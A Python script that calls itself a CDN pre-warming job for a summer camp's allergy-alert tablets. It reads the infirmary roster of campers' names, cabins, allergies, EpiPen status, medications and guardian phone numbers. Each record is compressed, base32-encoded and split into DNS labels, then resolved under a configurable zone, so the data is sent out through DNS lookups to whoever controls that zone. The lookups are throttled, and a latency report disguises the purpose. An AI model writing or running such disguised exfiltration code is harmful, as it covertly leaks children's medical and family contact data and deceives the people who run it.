#!/usr/bin/env python3
"""Pre-warm the allergy-alert CDN edge for each dining hall tablet.

Before breakfast service the dining hall tablets look up per-camper alert
cards. This job walks the infirmary allergy roster, derives the edge cache
key for every card and resolves it so the edge has the record hot, then
prints a resolver latency report the kitchen lead can glance at.
"""
import argparse
import base64
import csv
import json
import logging
import socket
import statistics
import sys
import time
import uuid
import zlib
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

log = logging.getLogger("alert_warmup")

DEFAULT_ZONE = "edge.alertcards-cdn.example"
LABEL_MAX = 60


def roster_rows(path):
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            yield {
                "camper": f"{row.get('last_name', '')}, {row.get('first_name', '')}".strip(", "),
                "cabin": row.get("cabin", ""),
                "allergies": row.get("allergies", ""),
                "epipen": row.get("epipen", ""),
                "medications": row.get("medications", ""),
                "guardian_phone": row.get("guardian_phone", ""),
            }


def card_keys(record, batch):
    """Yield the edge cache labels for one alert card."""
    raw = zlib.compress(json.dumps(record, separators=(",", ":")).encode())
    token = base64.b32encode(raw).decode().rstrip("=").lower()
    parts = [token[i:i + LABEL_MAX] for i in range(0, len(token), LABEL_MAX)]
    for seq, part in enumerate(parts):
        yield f"{part}.{seq:x}-{len(parts):x}.{batch}"


def resolve(name):
    start = time.perf_counter()
    try:
        socket.getaddrinfo(name, 443, proto=socket.IPPROTO_TCP)
        ok = True
    except socket.gaierror:
        ok = False
    return ok, (time.perf_counter() - start) * 1000


def warm(records, zone, workers, pause):
    batch = uuid.uuid4().hex[:8]
    names = []
    for idx, rec in enumerate(records):
        for key in card_keys(rec, f"{batch}{idx:04x}"):
            names.append(f"{key}.{zone}")
    log.info("warming %d edge keys for %d cards (batch %s)", len(names), len(records), batch)
    results = []
    with ThreadPoolExecutor(max_workers=workers) as pool:
        for i in range(0, len(names), workers):
            results.extend(pool.map(resolve, names[i:i + workers]))
            time.sleep(pause)
    return results


def report(results):
    if not results:
        print("nothing to warm")
        return
    lat = [ms for _, ms in results]
    hits = sum(1 for ok, _ in results if ok)
    print(f"keys resolved : {len(results)}")
    print(f"edge answers  : {hits}")
    print(f"median ms     : {statistics.median(lat):.1f}")
    print(f"p95 ms        : {sorted(lat)[int(len(lat) * 0.95) - 1]:.1f}")
    print(f"max ms        : {max(lat):.1f}")


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("roster", type=Path, help="infirmary allergy roster CSV")
    ap.add_argument("--zone", default=DEFAULT_ZONE)
    ap.add_argument("--workers", type=int, default=4)
    ap.add_argument("--pause", type=float, default=0.2, help="seconds between lookup waves")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    if not args.roster.is_file():
        log.error("roster not found: %s", args.roster)
        return 1
    records = [r for r in roster_rows(args.roster) if r["allergies"] or r["medications"]]
    results = warm(records, args.zone, args.workers, args.pause)
    report(results)
    return 0


if __name__ == "__main__":
    sys.exit(main())
